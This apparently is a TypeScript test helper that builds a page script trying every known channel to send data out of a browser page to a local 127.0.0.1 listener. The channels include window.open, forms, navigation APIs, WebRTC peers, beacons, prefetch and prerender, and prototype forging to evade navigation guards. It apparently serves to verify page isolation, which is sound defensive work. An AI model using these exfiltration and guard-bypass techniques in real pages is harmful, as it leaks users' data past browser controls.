/** Every way that is known by which a page could send something out of itself, as a script for the page. */

/** Where the attacker listens. */
export type Outside = {
  /** Origin of a page, such as `http://127.0.0.1:4711`. */
  readonly origin: string;
  /** Ports on 127.0.0.1 where whatever connects, or sends, is written down. */
  readonly tcpPort: number;
  readonly udpPort: number;
};

/**
 * Attempts that leave the page where it is. Where the browser itself refuses, a navigation ends at a page that says so, and a peer
 * of a frame with the frame's process (Chromium 156): nothing leaves, but the script has ended.
 */
export const WITHOUT_NAVIGATION = /^open$|^open without|RTC|^prefetch|^prerender|^dns|^preconnect/;

/**
 * Returns an expression that tries them one after the other; its promise gives the names of those that were tried.
 *
 * @param only - which of them.
 */
export const tryEveryWayOut = ({ origin, tcpPort, udpPort }: Outside, only = /^/): string => `(async () => {
  const out = ${JSON.stringify(origin)} + '/';
  const raw = 'http://127.0.0.1:${tcpPort}/';
  const tried = [];
  // a request of its own takes as long as the one that must not be
  const settle = () => fetch('/index.html', { cache: 'no-store' }).then((answer) => answer.text());
  const attempt = async (name, body) => {
    if (!${only}.test(name)) return;
    tried.push(name);
    try { await body(); } catch {}
    await settle();
  };
  const make = (tag, values = {}) => Object.assign(document.createElement(tag), values);
  const add = (element) => { (document.body ?? document.documentElement).append(element); return element; };
  const press = (element, values = {}) =>
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window, ...values }));
  const call = (Peer) => {
    const peer = new Peer({ iceServers: [
      { urls: 'stun:127.0.0.1:${udpPort}' },
      { urls: ['turn:127.0.0.1:${udpPort}', 'turn:127.0.0.1:${tcpPort}?transport=tcp'], username: 'stolen', credential: 'x' },
    ] });
    peer.createDataChannel('stolen');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };

  // other windows
  await attempt('open', () => window.open(out + 'open'));
  await attempt('open without opener', () => window.open(out + 'open-noopener', '_blank', 'noopener'));
  await attempt('open in itself', () => window.open(out + 'open-self', '_self'));
  await attempt('document.open', () => document.open(out + 'document-open', '_blank', 'noopener'));
  for (const target of ['_blank', '_top', '_self', 'named']) {
    const link = (name) => make('a', { href: out + 'link-' + name + target, target });
    await attempt('link to ' + target, () => add(link('pressed')).click());
    await attempt('link outside of the page to ' + target, () => link('outside').click());
    await attempt('event at a link to ' + target, () => press(link('event')));
    await attempt('event at a link to ' + target + ' with a key', () => press(add(link('key')), { ctrlKey: true, metaKey: true }));
    await attempt('form to ' + target, () => add(make('form', { action: out + 'form' + target, target, method: 'get' })).submit());
    await attempt('asked form to ' + target, () => add(make('form', { action: out + 'asked' + target, target })).requestSubmit());
  }
  await attempt('area', () => make('area', { href: out + 'area' }).click());
  await attempt('link in a drawing', () => {
    const drawing = add(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    const link = document.createElementNS('http://www.w3.org/2000/svg', 'a');
    link.setAttribute('href', out + 'svg');
    drawing.append(link);
    press(link);
  });
  await attempt('download', () => make('a', { href: out + 'download', download: 'x' }).click());
  await attempt('ping', () => add(make('a', { href: '#ping', ping: out + 'ping' })).click());

  // itself
  await attempt('location', () => { location.href = out + 'href'; });
  await attempt('location.assign', () => location.assign(out + 'assign'));
  await attempt('location.replace', () => location.replace(out + 'replace'));
  await attempt('document.location', () => { document.location = out + 'document'; });
  await attempt('port', () => { location.port = new URL(out).port; });
  await attempt('navigate', () => {
    const { committed, finished } = navigation.navigate(out + 'navigate');
    for (const end of [committed, finished]) end.catch(() => {});
  });
  await attempt('history', () => history.pushState(null, '', out + 'history'));
  await attempt('refresh', () => document.head.append(make('meta', { httpEquiv: 'refresh', content: '0;url=' + out + 'refresh' })));
  await attempt('data', () => { location.href = 'data:text/html,<img src="' + out + 'data">'; });
  await attempt('script address', () => { location.href = 'javascript:location.href="' + out + 'javascript"'; });
  await attempt('made page', () => {
    location.href = URL.createObjectURL(new Blob(['<meta http-equiv=refresh content="0;url=' + out + 'blob">'], { type: 'text/html' }));
  });

  // peers
  for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection']) await attempt(name, () => call(window[name]));
  for (const tag of ['iframe', 'object', 'embed', 'frame']) {
    await attempt('peer of an ' + tag, () => { add(make(tag)); return call(window[window.length - 1].RTCPeerConnection); });
    await attempt('peer of another ' + tag, () => {
      add(document.createElementNS('http://www.w3.org/1999/xhtml', tag));
      return call(window[window.length - 1].RTCPeerConnection);
    });
  }
  await attempt('peer of an element of another class', () => {
    customElements.define('x-frame', class extends HTMLIFrameElement {}, { extends: 'iframe' });
    add(new (customElements.get('x-frame'))());
    return call(window[window.length - 1].RTCPeerConnection);
  });
  await attempt('peer of markup', () => {
    document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
    return call(window[window.length - 1].RTCPeerConnection);
  });
  await attempt('peer of cleaned markup', () => {
    document.body.append(make('div'));
    document.body.lastElementChild.setHTML('<iframe></iframe>', { sanitizer: { elements: ['iframe'] } });
    return call(window[window.length - 1].RTCPeerConnection);
  });
  await attempt('peer of inserted markup', () => {
    const field = add(make('div', { contentEditable: 'true' }));
    field.focus();
    document.execCommand('insertHTML', false, '<iframe></iframe>');
    return call(window[window.length - 1].RTCPeerConnection);
  });
  await attempt('peer given back', () => {
    delete window.RTCPeerConnection;
    return call(Object.getOwnPropertyDescriptor(window, 'RTCPeerConnection').value);
  });
  await attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("' + out + 'worker")']))));
  await attempt('transport', () => new WebTransport(out.replace('http:', 'https:')).ready);

  // ahead of time
  await attempt('beacon', () => navigator.sendBeacon(out + 'beacon', 'x'));
  for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'dns-prefetch', 'preconnect']) {
    await attempt(rel, () => document.head.append(make('link', { rel, href: raw + rel, as: 'script' })));
  }
  await attempt('speculation', () => document.head.append(make('script', {
    type: 'speculationrules',
    textContent: JSON.stringify({ prefetch: [{ urls: [out + 'speculation'] }], prerender: [{ urls: [out + 'prerender'] }] }),
  })));

  // around what holds the page
  await attempt('deaf listener', () => {
    navigation.addEventListener('navigate', (event) => { event.stopImmediatePropagation(); });
    navigation.onnavigate = (event) => event.stopImmediatePropagation();
    location.href = out + 'deaf';
  });
  await attempt('forged language', () => {
    Event.prototype.preventDefault = () => {};
    String.prototype.startsWith = () => true;
    Reflect.apply = () => true;
    for (const [owner, name] of [[NavigateEvent, 'destination'], [NavigateEvent, 'downloadRequest'], [NavigationDestination, 'url']]) {
      Object.defineProperty(owner.prototype, name, { get: () => location.href });
    }
    location.href = out + 'forged';
  });
  return tried;
})()`;
